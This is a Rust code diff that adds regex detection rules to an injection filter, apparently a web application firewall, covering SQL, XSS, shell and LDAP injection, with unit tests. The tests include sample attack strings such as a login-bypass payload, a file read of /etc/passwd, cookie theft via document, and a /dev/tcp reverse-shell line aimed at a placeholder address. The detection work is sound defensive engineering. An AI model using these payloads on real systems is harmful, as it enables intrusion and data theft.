@@ -61,6 +61,16 @@ static SQL: LazyLock<RegexSet> = LazyLock::new(|| {
         r"\bwaitfor\s+(delay|time)\b",
         r"\bexec(ute)?\s*(\(\s*@|@|master\.|xp_\w+|sp_\w+)",
         r"\bgroup\s+by\s+[\w.,\s]{1,60}\bhaving\s+(count|sum|avg|min|max)\s*\(",
+        // JSON operators on a quoted JSON document: `'{"a":1}' -> '$.a'`, `'[1]' ? '1'`.
+        r#"['"][\[{].{0,200}[\]}]['"]\s*(->>?|#>>?|\?[|&]?|<@|@>|[<>]=?)\s*(['"]|array\s*\[)"#,
+        // A quoted column alias read from a table: `1 AS "x" FROM`, `` ` AS `id` from ``.
+        r#"(\d|`)\s*as\s*[`'"][^`'"]{0,60}([`'"]\s*)?from\b|[`'"]\s*regexp\s"#,
+        r"\b(tempdb|msdb|msysaccessobjects|msysobjects|schema_name|mysql\.db)\b",
+        // An e-mail address closed by a quote and a statement end or comment (login bypass).
+        r#"[\w.-]+@[\w.-]+['`]\s*(;|/\*|--|#)"#,
+        r#"\)\s*like\s*\(\s*($|['"%\d]|select\b)|\bif\s*\(\s*\d+\s*="#,
+        r"\bprocedure\s+analyse\s*\(|\bdeclare\s+@\w|\blo_(import|export|get|put|from_bytea)\s*\(|::\s*(bigint|double\s+precision|numeric|real|smallint|float\d?)\b",
+        r"(^|[^.\w])((find_in_set|xmltype|uncompress|sysdate|json_keys|current_database)\s*|compress|concat)\(",
         r"::\s*(bool|boolean|int|integer|text|json|jsonb|varchar|regclass)\b",
         r#"['"]\s*(<@|@>|\?\||\?&|#>>?)\s*['"]"#,
         r#"['"`]\s*(--|#|/\*)"#,
@@ -81,7 +91,8 @@ static XSS: LazyLock<RegexSet> = LazyLock::new(|| {
         r"<\s*/?\s*(script|iframe|frame|object|embed|applet|svg|math|meta|base|link|style|form|isindex|xss|marquee|body|img|image|video|audio|source|input|details|template|textarea|select|button)\b",
         r#"[\s"'/;`]on[a-z]{3,50}\s*=\s*[^\s=]"#,
         r#"(^|[\s"'`;])on[a-z]{3,50}\s*=\s*$"#,
-        r"\b(document|self|window|top|parent|frames|globalthis)\s*(\.\s*(cookie|body|domain|location|write|createelement)|\[\s*['\x22])|!!\[\]|\+\[\]|\[\]\[|<\s*:\s*\w+",
+        r"\b(document|self|window|top|parent|frames|globalthis)\s*\)?\s*(\.\s*(cookie|body|domain|location|write|createelement|queryselector)|\[\s*['\x22])|!!\[\]|\+\[\]|\[\]\[|<\s*:\s*\w+",
+        r"\.\s*(textcontent|outerhtml|innerhtml)\s*=",
         r"<[a-z]+:[a-z]+|<\?(php|=)|<%",
         r"\bon(error|load|mouseover|mouseenter|focus|blur|click|toggle|pointer\w+|animation\w+|begin|start)\s*=",
         r"\b(document\.(cookie|domain|location|write)|window\.location|\.innerhtml\s*=|eval\s*\(|fromcharcode|settimeout\s*\(|setinterval\s*\()",
@@ -89,6 +100,8 @@ static XSS: LazyLock<RegexSet> = LazyLock::new(|| {
         r"<\s*[a-z]+[^>]*\s(src|href|action|formaction|data)\s*=\s*['\x22]?\s*(javascript|vbscript|data):",
         r"\b(alert|prompt|confirm)\s*(\(|`)[^)]{0,40}(\)|`)",
         r"<!\[cdata\[|<!--.*?-->.*<",
+        // A tag name spelled out with spaces (`<f o r m`), a namespaced script, formaction.
+        r"<\s*([a-z]\s+){2,}[a-z]\b|<\s*[a-z]+\s*:\s*script\b|\bformaction\s*=",
     ])
     .expect("valid XSS rules")
 });
@@ -154,9 +167,11 @@ static COMMAND: LazyLock<RegexSet> = LazyLock::new(|| {
         r"\$\{[a-z_]\w*([#%:/^,~@][^}]*)?\}|^~[+-]$|[\s;|&]~[+-]($|\s)".to_string(),
         r#"[;&|`]\s*[a-z][\w.-]{1,30}\s+(-{1,2}[a-z][\w-]*|/[\w./*?\[\]-]+|['"]|https?://)"#.to_string(),
         r#"['"]\s*[;&|]\s*[a-z][\w.-]+\s*['"]"#.to_string(),
-        r"\balias\s+(-p\s+)?[\w.-]+\s*=|\bif\s+(/i\s+)?(not\s+)?%\w+%|\bfor\s+(/[a-z]\s+)*(\x22[^\x22]*\x22\s+)?%+\S+\s+in\s*\(".to_string(),
+        r#"\balias\s+([-+]\w+\+?\s+)*['"]?[\w.-]+['"]?\s*="#.to_string(),
+        r"\bif\s+(/i\s+)?(not\s+)?%\w+%|\bfor\s+(/[a-z]\s+)*(\x22[^\x22]*\x22\s+)?%+\S+\s+in\s*\(".to_string(),
         r"\{[a-z]*,[\w,./-]*\}".to_string(),
-        r"\)\s*\(\s*[|&!]\s*\(|\*\s*\)\s*\(|\)\s*\(\s*\w+\s*=\s*\*".to_string(),
+        // LDAP filter injection: `)(|`, `)(&`, `*)!(sn=*`, `)(cn>=bob`, `)|(uid=*`.
+        r"\)\s*\(\s*[|&!]\s*\(|\*\s*\)\s*\(|\)\s*\(\s*\w+\s*=\s*\*|\)\s*[!&|]?\s*\(\s*([|&!]|\w+\s*[<>~]?=)".to_string(),
     ])
     .expect("valid command rules")
 });
@@ -305,7 +320,13 @@ pub fn check_in(
     if has(b':') && JS_URL.is_match(f) {
         out.push(Rule::JavascriptUrl);
     }
-    if (f.contains(&b'<') || f.contains(&b'=') || f.contains(&b'(') || f.contains(&b'`'))
+    if (f.contains(&b'<')
+        || f.contains(&b'=')
+        || f.contains(&b'(')
+        || f.contains(&b'`')
+        || f.contains(&b'[')
+        || has_text(b"document")
+        || has_text(b"window"))
         && (XSS.is_match(f)
             || (f.contains(&b'<') && libinjectionrs::detect_xss(value).is_injection()))
     {
@@ -363,6 +384,17 @@ mod tests {
             ("d=/dev&&(sh)0>$d/tcp/192.0.2.1/777", Rule::CommandInjection),
             ("exec (@x)", Rule::Sqli),
             ("SELECT x GROUP BY y HAVING COUNT(id) >= 9", Rule::Sqli),
+            ("OR '{\"a\":2}' -> '$.a' = 2", Rule::Sqli),
+            ("` AS `edit_user_id` from", Rule::Sqli),
+            ("admin@juice-sh.op';", Rule::Sqli),
+            ("declare/**/@x", Rule::Sqli),
+            ("lo_import('/etc/passwd')", Rule::Sqli),
+            ("x=FIND_IN_SET('22', Category )", Rule::Sqli),
+            ("tempdb", Rule::Sqli),
+            ("foo=*)!(sn=*", Rule::CommandInjection),
+            ("alias -gmr a=b", Rule::CommandInjection),
+            ("(document/*x*/)[\"cookie\"]", Rule::Xss),
+            ("<f o r m", Rule::Xss),
         ] {
             assert!(rules(v).contains(&rule), "{v:?}: {:?}", rules(v));
         }
@@ -460,6 +492,18 @@ mod tests {
             "Curl your hair & shine",
             "It's late; time to go",
             "Ready; set; go!",
+            "Images: compress (lossless) before upload",
+            "Read the document [draft v2] before Friday",
+            "Scores [10, 20, 30] and averages (15.5)",
+            "Contact bob@example.com; he answers fast",
+            "Send it to \"bob@example.com\"; thanks",
+            "Price (USD) like (EUR) varies",
+            "\"quoted\" as \"alias\" from the book",
+            "Tasks: (1) plan (2) do (3) check",
+            "Note: x < y and y < z",
+            "Team: Marketing | Sales | Support",
+            "Level 3 [Gold] => 500 points",
+            "window cleaning & document shredding",
         ] {
             assert!(rules(v).is_empty(), "{v:?}: {:?}", rules(v));
         }
